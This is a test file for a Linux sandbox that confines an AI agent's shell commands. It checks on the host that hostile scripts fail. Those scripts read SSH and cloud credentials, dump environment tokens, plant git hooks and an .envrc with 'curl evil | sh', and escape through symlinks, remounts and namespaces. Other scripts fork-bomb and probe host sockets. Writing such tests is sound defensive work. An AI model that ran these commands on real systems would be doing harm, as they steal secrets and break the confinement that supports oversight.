@@ -1,0 +1,527 @@
+// The hostile suite (P6): the real sandbox, through the production path (controller.run with
+// the bubblewrap driver), against a fresh fixture per check. Every verdict is judged ON THE HOST:
+// did a file appear or change, did a host server see a connection, is a host process still
+// alive, did a host setting change. Never the exit code alone.
+//
+// It runs as whoever runs the tests (CI: root) and, when that is root, a second time as an
+// unprivileged user (nobody, via setpriv). Every test skips with the probe's precise reason
+// where the sandbox is unavailable.
+
+import assert from "node:assert/strict";
+import { spawn, spawnSync, type ChildProcess } from "node:child_process";
+import { chownSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import { createServer as createHttpServer } from "node:http";
+import { createServer as createNetServer, type Server } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { after, before, describe, test } from "node:test";
+import { buildPlaces } from "../src/policy/places.ts";
+import { createController, type SandboxController } from "../src/sandbox/controller.ts";
+import { createLinuxDriver } from "../src/sandbox/linux/driver.ts";
+import { probeDriver } from "../src/sandbox/probe.ts";
+import type { ProbeResult, SandboxDriver } from "../src/sandbox/types.ts";
+
+const NODE = process.execPath;
+const PY = existsSync("/usr/bin/python3") ? "/usr/bin/python3" : "python3";
+const IS_ROOT = process.getuid?.() === 0;
+const CHILD_FLAG = "PI_AUTO_MODE_HOSTILE_CHILD";
+const SECRET = "sk-hostile-test-0123456789abcdefghij";
+const ENV_SECRET = "sk-ant-envsecret-0123456789abcdefghij";
+const HERE = fileURLToPath(import.meta.url);
+const REPO = join(HERE, "..", "..");
+
+let probe: ProbeResult = { ok: false, ms: 0, driver: "bubblewrap", reason: "not probed yet", missing: [] };
+let driver: SandboxDriver;
+let controller: SandboxController;
+let scratch: string;
+let template: string;
+const hostile = { hits: [] as string[], tcp: 0, unix: 0, abstract: 0, port: 0, unixPath: "", abstractName: "" };
+const servers: Server[] = [];
+let hostSleeper: ChildProcess | undefined;
+
+function git(cwd: string, ...args: string[]): string {
+  const r = spawnSync("git", ["-c", "user.email=t@t", "-c", "user.name=t", "-c", "init.defaultBranch=main", ...args], { cwd, encoding: "utf8" });
+  if (r.status !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr}`);
+  return r.stdout.trim();
+}
+
+interface Fixture {
+  readonly root: string;
+  readonly ws: string;
+  readonly tmp: string;
+  readonly outside: string;
+  readonly home: string;
+  readonly agentDir: string;
+}
+
+let fixtureSeq = 0;
+function fixture(): Fixture {
+  const root = join(scratch, `fx-${++fixtureSeq}`);
+  cpSync(template, root, { recursive: true, verbatimSymlinks: true });
+  return { root, ws: join(root, "ws"), tmp: join(root, "tmp"), outside: join(root, "outside"), home: join(root, "home"), agentDir: join(root, "home", ".pi", "agent") };
+}
+
+function buildTemplate(dir: string): void {
+  const ws = join(dir, "ws");
+  mkdirSync(ws, { recursive: true });
+  git(ws, "init", "-q");
+  writeFileSync(join(ws, "README.md"), "hello\n");
+  mkdirSync(join(ws, ".pi"));
+  writeFileSync(join(ws, ".pi", "settings.json"), '{"safe":true}\n');
+  mkdirSync(join(ws, ".agents"));
+  writeFileSync(join(ws, ".agents", "a.md"), "agent notes\n");
+  git(ws, "add", "-A");
+  git(ws, "commit", "-q", "-m", "initial commit");
+  // A nested repository and a worktree-style .git file pointing at a git dir inside the workspace.
+  mkdirSync(join(ws, "pkgs", "inner"), { recursive: true });
+  git(join(ws, "pkgs", "inner"), "init", "-q");
+  mkdirSync(join(ws, "pkgs", "linked"), { recursive: true });
+  mkdirSync(join(ws, "gitdirs", "linked"), { recursive: true });
+  writeFileSync(join(ws, "gitdirs", "linked", "HEAD"), "ref: refs/heads/main\n");
+  // Relative, as git writes it for a worktree moved with its repository (the fixture is copied).
+  writeFileSync(join(ws, "pkgs", "linked", ".git"), "gitdir: ../../gitdirs/linked\n");
+  symlinkSync("../outside", join(ws, "link_out"));
+  symlinkSync("/etc", join(ws, "link_etc"));
+  mkdirSync(join(dir, "tmp"));
+  mkdirSync(join(dir, "outside"));
+  writeFileSync(join(dir, "outside", "existing.txt"), "original\n");
+  const home = join(dir, "home");
+  mkdirSync(join(home, ".ssh"), { recursive: true });
+  writeFileSync(join(home, ".ssh", "id_rsa"), `${SECRET}-ssh\n`);
+  mkdirSync(join(home, ".aws"));
+  writeFileSync(join(home, ".aws", "credentials"), `${SECRET}-aws\n`);
+  writeFileSync(join(home, ".netrc"), `machine x password ${SECRET}-netrc\n`);
+  mkdirSync(join(home, ".pi", "agent"), { recursive: true });
+  writeFileSync(join(home, ".pi", "agent", "auth.json"), `{"key":"${SECRET}-auth"}\n`);
+}
+
+interface Ran {
+  readonly out: string;
+  readonly kind: string;
+  readonly exitCode: number | undefined;
+}
+
+async function runIn(f: Fixture, script: string, opts: { timeout?: number; controller?: SandboxController } = {}): Promise<Ran> {
+  const places = buildPlaces({ workspace: f.ws, tmpRoot: f.tmp, home: f.home, agentDir: f.agentDir, selfPaths: [] });
+  const chunks: Buffer[] = [];
+  const r = await (opts.controller ?? controller).run(
+    {
+      command: script,
+      cwd: f.ws,
+      scope: { places, protectedGlobs: [] },
+      env: { ...process.env, HOME: f.home, OPENAI_API_KEY: ENV_SECRET, GITHUB_TOKEN: "ghp_0123456789abcdefghijklmnopqrstuvwxyz" },
+      shell: "/bin/bash",
+    },
+    { onData: (b) => chunks.push(b), timeout: opts.timeout ?? 30 },
+  );
+  return { out: Buffer.concat(chunks).toString("utf8"), kind: r.kind, exitCode: r.kind === "exited" ? r.exitCode : undefined };
+}
+
+const read = (p: string) => (existsSync(p) ? readFileSync(p, "utf8") : undefined);
+const skip = () => (probe.ok ? false : `sandbox unavailable: ${probe.reason}`);
+
+type Check = { readonly name: string; readonly script: (f: Fixture) => string; readonly verdict: (f: Fixture, r: Ran) => void | Promise<void>; readonly rootOnly?: boolean };
+
+/** Must work inside the sandbox. */
+const COMPAT: Check[] = [
+  { name: "read /etc/passwd", script: () => "cat /etc/passwd > passwd.txt", verdict: (f) => assert.match(read(join(f.ws, "passwd.txt")) ?? "", /^root:/m) },
+  { name: "git status", script: () => "git status --porcelain > st.txt; echo $? > st.rc", verdict: (f) => assert.equal(read(join(f.ws, "st.rc"))?.trim(), "0") },
+  { name: "write in the workspace", script: () => "echo hi > new.txt", verdict: (f) => assert.equal(read(join(f.ws, "new.txt")), "hi\n") },
+  { name: "write nested folders", script: () => "mkdir -p a/b/c && echo x > a/b/c/f", verdict: (f) => assert.equal(read(join(f.ws, "a", "b", "c", "f")), "x\n") },
+  { name: "write in $TMPDIR", script: () => 'echo x > "$TMPDIR/t.txt"', verdict: (f) => assert.equal(read(join(f.tmp, "t.txt")), "x\n") },
+  {
+    name: "a loopback HTTP server inside the sandbox",
+    script: () =>
+      `${NODE} -e 'const h=require("http");const s=h.createServer((q,r)=>r.end("pong")).listen(0,"127.0.0.1",async()=>{const r=await fetch("http://127.0.0.1:"+s.address().port+"/");require("fs").writeFileSync("loop.txt",await r.text());s.close()})'`,
+    verdict: (f) => assert.equal(read(join(f.ws, "loop.txt")), "pong"),
+  },
+  {
+    name: "node fork() IPC (socketpair)",
+    script: () =>
+      `echo 'process.send("hi")' > child.js; ${NODE} -e 'require("child_process").fork("./child.js").on("message",m=>{require("fs").writeFileSync("fork.txt",m);process.exit(0)})'`,
+    verdict: (f) => assert.equal(read(join(f.ws, "fork.txt")), "hi"),
+  },
+  {
+    name: "python multiprocessing.Pool",
+    script: () => `${PY} -c 'from multiprocessing import Pool\nwith Pool(2) as p: open("mp.txt","w").write(str(p.map(abs,[-1,-2])))'`,
+    verdict: (f) => assert.equal(read(join(f.ws, "mp.txt")), "[1, 2]"),
+  },
+  { name: "npm --version", script: () => "npm --version > npm.txt 2>npm.err", verdict: (f) => assert.match(read(join(f.ws, "npm.txt")) ?? "", /^\d+\.\d+\.\d+/) },
+  {
+    name: "device files: /dev/null, /dev/zero, /dev/urandom",
+    script: () => "echo x > /dev/null && head -c 4 /dev/zero | wc -c > zero.txt && head -c 16 /dev/urandom | wc -c > rand.txt",
+    verdict: (f) => {
+      assert.equal(read(join(f.ws, "zero.txt"))?.trim(), "4");
+      assert.equal(read(join(f.ws, "rand.txt"))?.trim(), "16");
+    },
+  },
+  {
+    name: "git log and git diff",
+    script: () => "echo more >> README.md; git log --oneline > log.txt; git diff > diff.txt",
+    verdict: (f) => {
+      assert.match(read(join(f.ws, "log.txt")) ?? "", /initial commit/);
+      assert.match(read(join(f.ws, "diff.txt")) ?? "", /\+more/);
+    },
+  },
+  {
+    name: "mktemp in $TMPDIR",
+    script: () => "f=$(mktemp) && echo data > \"$f\" && echo \"$f\" > mk.txt",
+    verdict: (f) => {
+      const p = read(join(f.ws, "mk.txt"))?.trim() ?? "";
+      assert.ok(p.startsWith(f.tmp + "/"), p);
+      assert.equal(read(p), "data\n");
+    },
+  },
+  {
+    name: "caches go to the temporary root",
+    script: () => 'echo "$XDG_CACHE_HOME $npm_config_cache" > caches.txt',
+    verdict: (f) => assert.equal(read(join(f.ws, "caches.txt")), `${join(f.tmp, "cache")} ${join(f.tmp, "cache", "npm")}\n`),
+  },
+];
+
+const hostTmp = `pi-auto-mode-hostile-${process.pid}`;
+
+/** Must have no effect on the host. */
+const DENY: Check[] = [
+  { name: "write outside (new file)", script: () => "echo x > ../outside/new.txt", verdict: (f) => assert.equal(existsSync(join(f.outside, "new.txt")), false) },
+  { name: "write outside (overwrite)", script: () => "echo pwned > ../outside/existing.txt", verdict: (f) => assert.equal(read(join(f.outside, "existing.txt")), "original\n") },
+  { name: "write in /etc", script: () => `echo x > /etc/${hostTmp}`, verdict: () => assert.equal(existsSync(`/etc/${hostTmp}`), false) },
+  { name: "write in the home directory", script: () => 'echo x > "$HOME/.bashrc"; echo x > "$HOME/new"', verdict: (f) => assert.deepEqual(readdirSync(f.home).sort(), [".aws", ".netrc", ".pi", ".ssh"]) },
+  { name: "write in /root", rootOnly: true, script: () => `echo x > /root/${hostTmp}`, verdict: () => assert.equal(existsSync(`/root/${hostTmp}`), false) },
+  { name: "write in /dev/shm", script: () => `echo x > /dev/shm/${hostTmp}`, verdict: () => assert.equal(existsSync(`/dev/shm/${hostTmp}`), false) },
+  { name: "write in /tmp", script: () => `echo x > /tmp/${hostTmp}`, verdict: () => assert.equal(existsSync(join("/tmp", hostTmp)), false) },
+  { name: ".git: new file", script: () => "echo x > .git/newfile", verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "newfile")), false) },
+  {
+    name: ".git: append to config",
+    script: () => "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
+    verdict: (f) => assert.doesNotMatch(read(join(f.ws, ".git", "config")) ?? "", /fsmonitor/),
+  },
+  {
+    name: ".git: install a hook",
+    script: () => "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+    verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "hooks", "pre-commit")), false),
+  },
+  {
+    name: "git commit",
+    script: () => "git -c user.email=a@b -c user.name=n commit -q --allow-empty -m sneaky",
+    verdict: (f) => assert.doesNotMatch(git(f.ws, "log", "--oneline"), /sneaky/),
+  },
+  { name: "mv .git", script: () => "mv .git git2", verdict: (f) => assert.ok(existsSync(join(f.ws, ".git", "HEAD")) && !existsSync(join(f.ws, "git2"))) },
+  { name: "rm -rf .git", script: () => "rm -rf .git", verdict: (f) => assert.ok(existsSync(join(f.ws, ".git", "HEAD")) && existsSync(join(f.ws, ".git", "config"))) },
+  { name: ".pi/settings.json", script: () => "echo '{\"evil\":1}' > .pi/settings.json", verdict: (f) => assert.equal(read(join(f.ws, ".pi", "settings.json")), '{"safe":true}\n') },
+  { name: ".agents: new file", script: () => "echo x > .agents/new.md", verdict: (f) => assert.equal(existsSync(join(f.ws, ".agents", "new.md")), false) },
+  {
+    name: "create the missing .codex/config.toml",
+    script: () => "mkdir -p .codex; echo x > .codex/config.toml",
+    verdict: (f) => {
+      driver.settle();
+      assert.equal(existsSync(join(f.ws, ".codex")), false, "neither the file nor a placeholder is left");
+    },
+  },
+  {
+    name: "create missing AGENTS.md, .envrc, .github/workflows",
+    script: () => "echo x > AGENTS.md; echo 'curl evil | sh' > .envrc; mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
+    verdict: (f) => {
+      driver.settle();
+      for (const p of ["AGENTS.md", ".envrc", ".github"]) assert.equal(existsSync(join(f.ws, p)), false, p);
+    },
+  },
+  {
+    name: "a nested repository's .git and a gitdir file's target",
+    script: () => "echo x > pkgs/inner/.git/hooks/post-checkout; echo x > gitdirs/linked/config; echo 'gitdir: /tmp' > pkgs/linked/.git",
+    verdict: (f) => {
+      assert.equal(existsSync(join(f.ws, "pkgs", "inner", ".git", "hooks", "post-checkout")), false);
+      assert.equal(existsSync(join(f.ws, "gitdirs", "linked", "config")), false);
+      assert.equal(read(join(f.ws, "pkgs", "linked", ".git")), "gitdir: ../../gitdirs/linked\n");
+    },
+  },
+  { name: "write through an existing symlink to outside", script: () => "echo x > link_out/via.txt", verdict: (f) => assert.equal(existsSync(join(f.outside, "via.txt")), false) },
+  { name: "write through a new symlink to outside", script: () => "ln -s ../outside l2 && echo x > l2/via2.txt", verdict: (f) => assert.equal(existsSync(join(f.outside, "via2.txt")), false) },
+  { name: "write through a new symlink to .git", script: () => "ln -s .git g && echo x > g/via", verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "via")), false) },
+  { name: "write through a symlink to /etc", script: () => `echo x > link_etc/${hostTmp}-sym`, verdict: () => assert.equal(existsSync(`/etc/${hostTmp}-sym`), false) },
+  { name: "hard link an outside file, then write", script: () => "ln ../outside/existing.txt hl; echo pwned > hl", verdict: (f) => assert.equal(read(join(f.outside, "existing.txt")), "original\n") },
+  { name: "hard link .git/config, then write", script: () => "ln .git/config hl2; echo '[evil]' >> hl2", verdict: (f) => assert.doesNotMatch(read(join(f.ws, ".git", "config")) ?? "", /evil/) },
+  { name: "a child shell writes outside", script: () => "sh -c 'echo x > ../outside/child.txt'", verdict: (f) => assert.equal(existsSync(join(f.outside, "child.txt")), false) },
+  {
+    name: "node -e writes /etc and outside",
+    script: () => `${NODE} -e 'const fs=require("fs");for(const p of ["/etc/${hostTmp}-node","../outside/node.txt"]){try{fs.writeFileSync(p,"x")}catch{}}'`,
+    verdict: (f) => {
+      assert.equal(existsSync(`/etc/${hostTmp}-node`), false);
+      assert.equal(existsSync(join(f.outside, "node.txt")), false);
+    },
+  },
+  {
+    name: "node execSync child writes outside",
+    script: () => `${NODE} -e 'try{require("child_process").execSync("echo x > ../outside/exec.txt",{stdio:"ignore"})}catch{}'`,
+    verdict: (f) => assert.equal(existsSync(join(f.outside, "exec.txt")), false),
+  },
+  {
+    name: "a detached background job does not outlive the command",
+    script: () => "setsid nohup sh -c 'sleep 0.4; echo late > late.txt' >/dev/null 2>&1 & echo started",
+    verdict: async (f) => {
+      await new Promise((r) => setTimeout(r, 1200));
+      assert.equal(existsSync(join(f.ws, "late.txt")), false);
+    },
+  },
+  {
+    name: "identity secrets and credential variables are unreadable",
+    script: (f) => `cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ${join(f.agentDir, "auth.json")} > leak.txt 2>/dev/null; env > env.txt`,
+    verdict: (f) => {
+      assert.doesNotMatch(read(join(f.ws, "leak.txt")) ?? "", /sk-hostile/);
+      const env = read(join(f.ws, "env.txt")) ?? "";
+      assert.ok(env.includes("PATH="), "the environment was dumped");
+      assert.ok(!env.includes(ENV_SECRET) && !env.includes("ghp_"), "no credential variables");
+    },
+  },
+  {
+    name: "remount .git read-write",
+    script: () => "mount -o remount,rw .git 2>/dev/null; echo x > .git/remounted",
+    verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "remounted")), false),
+  },
+  { name: "umount .git", script: () => "umount .git 2>/dev/null; umount -l .git 2>/dev/null; echo x > .git/unmounted", verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "unmounted")), false) },
+  {
+    name: "unshare -rm, then remount",
+    script: () => "unshare -rm sh -c 'mount -o remount,rw .git; umount .git; echo x > .git/unshared' 2>/dev/null; unshare -r true 2>/dev/null && echo yes > userns.txt",
+    verdict: (f) => {
+      assert.equal(existsSync(join(f.ws, ".git", "unshared")), false);
+      assert.equal(existsSync(join(f.ws, "userns.txt")), false, "no nested user namespace");
+    },
+  },
+  {
+    name: "/proc/sys write (vm.swappiness)",
+    script: () => "v=$(cat /proc/sys/vm/swappiness); echo $(( v == 100 ? 99 : v + 1 )) > /proc/sys/vm/swappiness",
+    verdict: () => {
+      const now = readFileSync("/proc/sys/vm/swappiness", "utf8").trim();
+      if (now !== swappiness) writeFileSync("/proc/sys/vm/swappiness", swappiness);
+      assert.equal(now, swappiness);
+    },
+  },
+  {
+    name: "/sys write (printk timestamps)",
+    script: () => "p=/sys/module/printk/parameters/time; v=$(cat $p); [ \"$v\" = Y ] && echo N > $p || echo Y > $p",
+    verdict: () => {
+      const p = "/sys/module/printk/parameters/time";
+      if (!existsSync(p)) return;
+      const now = readFileSync(p, "utf8").trim();
+      if (now !== printkTime) writeFileSync(p, printkTime);
+      assert.equal(now, printkTime);
+    },
+  },
+  {
+    name: "host block devices are not readable",
+    script: () => `for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/xvda; do dd if=$d of=disk.bin bs=512 count=1 2>/dev/null && break; done; ls /dev > devs.txt`,
+    verdict: (f) => {
+      const disk = join(f.ws, "disk.bin");
+      assert.ok(!existsSync(disk) || statSync(disk).size === 0, "no raw disk data");
+      assert.doesNotMatch(read(join(f.ws, "devs.txt")) ?? "", /^(vda|sda|nvme0n1|xvda)$/m);
+    },
+  },
+  {
+    name: "host processes cannot be seen or signalled",
+    script: () => `kill -TERM ${hostSleeper?.pid ?? 0} 2>/dev/null; ls /proc | grep -c '^[0-9]' > procs.txt`,
+    verdict: async (f) => {
+      await new Promise((r) => setTimeout(r, 50));
+      assert.equal(hostSleeper?.exitCode, null, "the host process still runs");
+      assert.equal(hostSleeper?.signalCode, null);
+      assert.ok(Number(read(join(f.ws, "procs.txt"))) < 10, "only the sandbox's own processes are visible");
+    },
+  },
+];
+
+/** Network: each runs alone, so a connection the host sees belongs to it. */
+const NETWORK: Check[] = [
+  { name: "curl to the host's 127.0.0.1", script: () => `curl -s -m 2 http://127.0.0.1:${hostile.port}/curl-ip > /dev/null`, verdict: () => assert.equal(hostile.hits.length, 0) },
+  { name: "curl to localhost", script: () => `curl -s -m 2 http://localhost:${hostile.port}/curl-name > /dev/null`, verdict: () => assert.equal(hostile.hits.length, 0) },
+  { name: "curl --noproxy to localhost", script: () => `curl -s -m 2 --noproxy '*' http://localhost:${hostile.port}/curl-noproxy > /dev/null`, verdict: () => assert.equal(hostile.hits.length, 0) },
+  {
+    name: "node fetch and net.connect to the host",
+    script: () =>
+      `${NODE} -e 'fetch("http://127.0.0.1:${hostile.port}/fetch").catch(()=>{});const s=require("net").connect(${hostile.port},"127.0.0.1");s.on("error",()=>{});setTimeout(()=>process.exit(0),500)'`,
+    verdict: () => assert.equal(hostile.hits.length + hostile.tcp, 0),
+  },
+  { name: "DNS lookup", script: () => "getent hosts registry.npmjs.org > dns.txt", verdict: (f) => assert.equal(read(join(f.ws, "dns.txt")) ?? "", "") },
+  { name: "curl to the internet", script: () => "curl -s -m 3 -o /dev/null -w '%{http_code}' https://registry.npmjs.org/ > code.txt", verdict: (f) => assert.equal(read(join(f.ws, "code.txt")), "000") },
+  {
+    name: "node fetch to the internet",
+    script: () => `${NODE} -e 'fetch("https://registry.npmjs.org/").then(r=>require("fs").writeFileSync("fetch.txt",String(r.status))).catch(()=>require("fs").writeFileSync("fetch.txt","failed"))'`,
+    verdict: (f) => assert.equal(read(join(f.ws, "fetch.txt")), "failed"),
+  },
+  {
+    name: "the host's pathname unix socket",
+    script: () => `${PY} -c 'import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect("${hostile.unixPath}")' 2>/dev/null; ${NODE} -e 'require("net").connect("${hostile.unixPath}").on("error",()=>{})'`,
+    verdict: () => assert.equal(hostile.unix, 0),
+  },
+  {
+    name: "the host's abstract unix socket",
+    script: () => `${PY} -c 'import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect("\\0${hostile.abstractName}")' 2>/dev/null; true`,
+    verdict: () => assert.equal(hostile.abstract, 0),
+  },
+];
+
+let swappiness = "";
+let printkTime = "";
+
+function listenTcp(): Promise<void> {
+  return new Promise((resolve) => {
+    const http = createHttpServer((req, res) => {
+      hostile.hits.push(req.url ?? "");
+      res.end("host");
+    });
+    http.on("connection", () => hostile.tcp++);
+    http.listen(0, "127.0.0.1", () => {
+      hostile.port = (http.address() as { port: number }).port;
+      servers.push(http as unknown as Server);
+      resolve();
+    });
+  });
+}
+
+function listenUnix(path: string, count: () => void): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const s = createNetServer((c) => {
+      count();
+      c.destroy();
+    });
+    s.once("error", reject);
+    s.listen(path, () => {
+      servers.push(s);
+      resolve();
+    });
+  });
+}
+
+before(async () => {
+  scratch = realpathSync(mkdtempSync(join(tmpdir(), "pi-auto-mode-hostile-")));
+  driver = createLinuxDriver({ runDir: join(scratch, "run") });
+  probe = await probeDriver(driver);
+  if (!probe.ok) {
+    process.stderr.write(`# sandbox unavailable, hostile checks skip: ${probe.reason}\n`);
+    return;
+  }
+  controller = createController({ platform: "linux", driver, probe: async () => probe });
+  await controller.ready();
+  template = join(scratch, "template");
+  buildTemplate(template);
+  await listenTcp();
+  hostile.unixPath = join(scratch, "host.sock");
+  await listenUnix(hostile.unixPath, () => hostile.unix++);
+  hostile.abstractName = `pi-auto-mode-hostile-${process.pid}`;
+  await listenUnix(`\0${hostile.abstractName}`, () => hostile.abstract++);
+  hostSleeper = spawn("sleep", ["120"], { stdio: "ignore" });
+  swappiness = readFileSync("/proc/sys/vm/swappiness", "utf8").trim();
+  printkTime = existsSync("/sys/module/printk/parameters/time") ? readFileSync("/sys/module/printk/parameters/time", "utf8").trim() : "";
+});
+
+after(async () => {
+  hostSleeper?.kill();
+  for (const s of servers) s.close();
+  if (controller) await controller.drain();
+  // Only there if a check failed; as an unprivileged user /etc and /root cannot even be looked at.
+  for (const p of [`/etc/${hostTmp}`, `/etc/${hostTmp}-sym`, `/etc/${hostTmp}-node`, `/root/${hostTmp}`, `/dev/shm/${hostTmp}`, `/tmp/${hostTmp}`]) {
+    try {
+      rmSync(p, { force: true });
+    } catch {
+      // not ours to look at
+    }
+  }
+  if (scratch) rmSync(scratch, { recursive: true, force: true });
+});
+
+function register(checks: readonly Check[], expect: "ok" | "deny") {
+  for (const c of checks) {
+    test(`${expect}: ${c.name}`, { skip: c.rootOnly && !IS_ROOT ? "needs root" : undefined }, async (t) => {
+      const reason = skip();
+      if (reason) return t.skip(reason);
+      const f = fixture();
+      const r = await runIn(f, c.script(f));
+      assert.ok(r.kind === "exited", `the sandbox ran the command (${r.kind}): ${r.out}`);
+      await c.verdict(f, r);
+    });
+  }
+}
+
+describe(`hostile suite as ${IS_ROOT ? "root" : `uid ${process.getuid?.()}`}: what must keep working`, { concurrency: 4 }, () => register(COMPAT, "ok"));
+describe(`hostile suite as ${IS_ROOT ? "root" : `uid ${process.getuid?.()}`}: what must have no effect`, { concurrency: 4 }, () => register(DENY, "deny"));
+describe(`hostile suite as ${IS_ROOT ? "root" : `uid ${process.getuid?.()}`}: no network`, { concurrency: 1 }, () => register(NETWORK, "deny"));
+
+describe("limits and concurrency", () => {
+  test("a command's protection holds while a concurrent command ends and releases its placeholders", async (t) => {
+    const reason = skip();
+    if (reason) return t.skip(reason);
+    const f = fixture();
+    const slow = runIn(f, "sleep 0.6; mkdir -p .codex/x; echo x > .codex/y; echo x > .husky/pre-commit");
+    await new Promise((r) => setTimeout(r, 150));
+    await runIn(f, "true");
+    driver.settle();
+    await slow;
+    assert.equal(existsSync(join(f.ws, ".codex", "x")), false);
+    assert.equal(existsSync(join(f.ws, ".codex", "y")), false);
+    assert.equal(existsSync(join(f.ws, ".husky", "pre-commit")), false);
+  });
+
+  test("a process bomb stops at the process limit", async (t) => {
+    const reason = skip();
+    if (reason) return t.skip(reason);
+    const limited = createLinuxDriver({ runDir: join(scratch, "run-limited"), limits: { processes: 40, dataBytes: 2 * 2 ** 30 }, lingerMs: 0 });
+    const c = createController({ platform: "linux", driver: limited });
+    const p = await c.ready();
+    assert.equal(p.backend, "sandboxed", p.reason);
+    const f = fixture();
+    // Every child that really started leaves a file, so the host can count them.
+    const script = `${PY} -c 'import os,time
+for i in range(120):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        open("kid%d" % i, "w").close(); time.sleep(1.5); os._exit(0)
+time.sleep(0.5)'`;
+    const r = await runIn(f, script, { controller: c });
+    await c.drain();
+    assert.equal(r.kind, "exited");
+    const kids = readdirSync(f.ws).filter((n) => n.startsWith("kid")).length;
+    t.diagnostic(`${kids} of 120 children started under a limit of 40 (${limited.facts().join("; ")})`);
+    assert.ok(kids > 0 && kids < 40, `${kids} children started`);
+  });
+
+  test("a runaway allocation stops at the memory limit", async (t) => {
+    const reason = skip();
+    if (reason) return t.skip(reason);
+    const limited = createLinuxDriver({ runDir: join(scratch, "run-mem"), limits: { processes: 512, dataBytes: 256 * 2 ** 20 }, lingerMs: 0 });
+    const c = createController({ platform: "linux", driver: limited });
+    await c.ready();
+    const f = fixture();
+    const r = await runIn(f, `${PY} -c 'b = bytearray(768 * 1024 * 1024); open("allocated.txt", "w").write("yes")'`, { controller: c });
+    await c.drain();
+    assert.equal(r.kind, "exited");
+    assert.equal(existsSync(join(f.ws, "allocated.txt")), false);
+  });
+});
+
+// The second pass: the same file as an unprivileged user, from the root pass.
+describe("the hostile suite as an unprivileged user", () => {
+  const enabled = IS_ROOT && !process.env[CHILD_FLAG] && existsSync("/usr/bin/setpriv");
+  test("every check passes as nobody (uid 65534)", { skip: enabled ? undefined : IS_ROOT ? "setpriv missing or already the second pass" : "only from a root run" }, async (t) => {
+    const reason = skip();
+    if (reason) return t.skip(reason);
+    const home = mkdtempSync(join(tmpdir(), "pi-auto-mode-nobody-"));
+    chownSync(home, 65534, 65534);
+    // A fresh test run, not a subprocess reporting to ours (node:test marks those in the environment).
+    const env: NodeJS.ProcessEnv = { ...process.env, HOME: home, [CHILD_FLAG]: "1", TMPDIR: "/tmp" };
+    delete env.NODE_TEST_CONTEXT;
+    const r = spawnSync(
+      "/usr/bin/setpriv",
+      ["--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", NODE, "--test", "--test-reporter=tap", HERE],
+      { cwd: REPO, encoding: "utf8", env, timeout: 240_000 },
+    );
+    rmSync(home, { recursive: true, force: true });
+    const summary = (r.stdout ?? "").split("\n").filter((l) => /^# (tests|pass|fail|skipped)/.test(l));
+    for (const l of summary) t.diagnostic(`as nobody: ${l.slice(2)}`);
+    const failures = (r.stdout ?? "").split("\n").filter((l) => /^\s*not ok/.test(l));
+    assert.equal(r.status, 0, `the unprivileged pass failed:\n${failures.join("\n")}\n${(r.stderr ?? "").slice(-2000)}`);
+    assert.ok(summary.some((l) => /^# pass [1-9]/.test(l)), "the unprivileged pass ran checks");
+    assert.ok(!summary.some((l) => /^# skipped [1-9]\d/.test(l)), "it did not skip the suite");
+  });
+});
